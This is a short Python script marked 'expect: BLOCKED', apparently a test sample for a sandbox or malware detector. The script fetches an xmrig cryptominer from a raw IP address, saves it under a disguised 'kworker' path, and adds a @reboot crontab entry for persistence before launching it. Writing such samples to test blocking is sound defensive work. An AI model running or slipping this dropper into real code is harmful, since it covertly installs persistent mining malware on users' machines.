# expect: BLOCKED
import os
import subprocess
import urllib.request

TARGET = os.path.expanduser("~/.local/share/.sysd/kworker")
os.makedirs(os.path.dirname(TARGET), exist_ok=True)
urllib.request.urlretrieve("http://185.10.0.1/xmrig", TARGET)
os.chmod(TARGET, 0o755)
line = f"@reboot {TARGET} -o pool.example:3333\n"
current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
subprocess.run(["crontab", "-"], input=current + line, text=True)
subprocess.Popen([TARGET])
